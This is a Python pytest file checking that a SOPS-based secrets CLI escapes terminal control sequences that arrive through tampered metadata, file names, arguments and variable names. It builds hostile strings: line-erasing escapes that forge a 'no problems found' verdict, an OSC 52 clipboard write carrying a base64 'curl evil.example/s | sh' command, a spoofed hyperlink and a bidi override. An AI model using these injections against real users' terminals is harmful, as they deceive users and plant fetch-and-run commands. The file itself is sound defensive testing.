"""The CLI against text that would drive the terminal: SOPS metadata, arguments, variable names.

Issue 22, item 9. A SOPS file's metadata (key-group recipients, ARNs, Vault addresses,
``lastmodified``) is not authenticated: whoever can edit the file writes what ``check`` and
``doctor`` print. Raw, ``ESC[2K`` and ``CR`` erase a line and write "no problems found" over
it, ``OSC 52`` sets the clipboard, a bidi override reverses what a reader sees. Every line the
CLI prints goes through one function that escapes them; these tests make the attacker's file
and the attacker's arguments, and read every byte that reached stdout and stderr.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

import test_cli_sops as cli_sops
from sops.conftest import AgeKey, Sops
from test_cli import CliResult, run_cli

# What an attacker writes into a field the CLI prints.
CLEAR_LINE = "\x1b[2K\r"
FAKE_LINE = "\nno problems found\n"  # a line of its own, as doctor ends a clean report
FAKE_OK = f"{CLEAR_LINE}all secrets ok"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvcyB8IHNo\x07"  # OSC 52: "curl evil.example/s | sh"
HYPERLINK = "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"
C1_CSI = "\x9b2J"  # the 8-bit form of ESC [ (clear screen)
BIDI = "\u202eexe.ko\u202c"
OTHERS = "\x08\x7f\x00\u2028\u200b"
HOSTILE = FAKE_LINE + FAKE_OK + CLIPBOARD + HYPERLINK + C1_CSI + BIDI + OTHERS
ARGUMENT = HOSTILE.replace("\x00", "")  # an argument cannot hold NUL


# The CLI SOPS tests' age key, environment and working directory, shared rather than written twice.
age_key, env, workdir = cli_sops.age_key, cli_sops.env, cli_sops.workdir


@pytest.fixture
def tampered(workdir: Path, env: dict[str, str], age_key: AgeKey, tmp_path: Path) -> Path:
    """A SOPS JSON file ``sops`` wrote, then edited: hostile text in every metadata field shown."""
    scratch = tmp_path / "sops-work"
    scratch.mkdir()
    path = Sops(scratch, env).encrypt(
        workdir / "secrets.enc.json",
        '{"api_token": "tok-value-1"}',
        fmt="json",
        keys=["--age", age_key.recipient],
    )
    doc = json.loads(path.read_text())
    meta = doc["sops"]
    meta["lastmodified"] = HOSTILE
    meta["version"] = HOSTILE
    meta["age"].append({"recipient": HOSTILE, "enc": meta["age"][0]["enc"]})
    meta["kms"] = [{"arn": HOSTILE, "role": HOSTILE, "aws_profile": HOSTILE, "enc": "x", "created_at": "x"}]
    meta["hc_vault"] = [
        {"vault_address": HOSTILE, "engine_path": HOSTILE, "key_name": HOSTILE, "enc": "x", "created_at": "x"}
    ]
    meta["azure_kv"] = [
        {"vault_url": HOSTILE, "name": HOSTILE, "version": "1", "enc": "x", "created_at": "x"}
    ]
    meta["encrypted_regex"] = HOSTILE
    path.write_text(json.dumps(doc))  # json.dumps writes each control character as \u00XX
    return path


def assert_terminal_safe(result: CliResult) -> None:
    """Every character that reached stdout and stderr is printable, or a line break."""
    for stream, raw in (("stdout", result.raw_out), ("stderr", result.raw_err)):
        text = raw.decode("utf-8")  # strict: undecodable bytes would be raw bytes on the terminal
        bad = sorted({f"U+{ord(c):04X}" for c in text if c != "\n" and not c.isprintable()})
        assert not bad, f"{stream} holds control characters {bad}:\n{result.describe()}"


@pytest.mark.parametrize("command", ["check", "doctor"])
@pytest.mark.parametrize("json_flag", [[], ["--json"]])
def test_sops_metadata_cannot_write_to_the_terminal(
    command: str, json_flag: list[str], tampered: Path, workdir: Path, env: dict[str, str]
) -> None:
    """check/doctor on a file whose metadata holds ESC[2K, CR, OSC 52, C1, bidi: every one escaped."""
    args = [command, *json_flag, *(["--timeout", "1"] if command == "doctor" else []), tampered.name]
    result = run_cli(*args, env=env, cwd=workdir)
    assert_terminal_safe(result)
    # The metadata was shown (escaped), so the absence of raw bytes is the escaping's doing.
    shown = result.out + result.err
    if json_flag:
        assert "\\u001b]52;c;" in shown, result.describe()
    else:
        assert "\\x1b]52;c;" in shown and "\\u202e" in shown, result.describe()
        assert "\\nno problems found\\n\\x1b[2K\\rall secrets ok" in shown, result.describe()
        # No line the file wrote can pass for the report's own verdict.
        assert not any(line.startswith("no problems found") for line in result.out.splitlines())


def test_a_sops_file_named_to_clear_the_line_is_shown_escaped(
    tampered: Path, workdir: Path, env: dict[str, str]
) -> None:
    """A file whose name holds escape sequences, given as an argument, is named escaped in every line."""
    hostile = workdir / f"x{CLEAR_LINE}{CLIPBOARD}.enc.json"
    hostile.write_bytes(tampered.read_bytes())
    for command in (["check"], ["doctor", "--timeout", "1"]):
        result = run_cli(*command, hostile.name, env=env, cwd=workdir)
        assert_terminal_safe(result)
        assert "\\x1b]52;c;" in result.out + result.err, result.describe()


@pytest.mark.parametrize(
    "argv",
    [
        ["get", ARGUMENT],
        ["get", "--json", ARGUMENT],
        ["check", ARGUMENT, f"vault://secret/{CLIPBOARD}#k"],
        ["doctor", "--timeout", "1", ARGUMENT],
        ["doctor", f"--bogus{CLIPBOARD}"],  # a usage error quotes the argument it refuses
        ["check", "--settings", f"{CLEAR_LINE}pkg:Class"],
    ],
    ids=["get", "get-json", "check", "doctor", "usage-error", "settings"],
)
def test_an_argument_cannot_write_to_the_terminal(
    argv: list[str], workdir: Path, env: dict[str, str]
) -> None:
    """Names, references and flags given on the command line are echoed escaped, in errors too."""
    result = run_cli(*argv, env=env, cwd=workdir)
    assert result.code != 0, result.describe()
    assert_terminal_safe(result)
    assert "\\x1b" in result.out + result.err or "\\u001b" in result.out + result.err, result.describe()


def test_a_variable_name_cannot_write_to_the_terminal(workdir: Path, env: dict[str, str]) -> None:
    """doctor lists the variables that hold references: one named with escape sequences is escaped."""
    env = {**env, f"REF{CLEAR_LINE}{CLIPBOARD}": "azure-kv://myvault/x", "VAULT_ADDR": "http://127.0.0.1:9"}
    result = run_cli("doctor", "--timeout", "1", env=env, cwd=workdir)
    assert_terminal_safe(result)
    assert "\\x1b]52;c;" in result.out, result.describe()
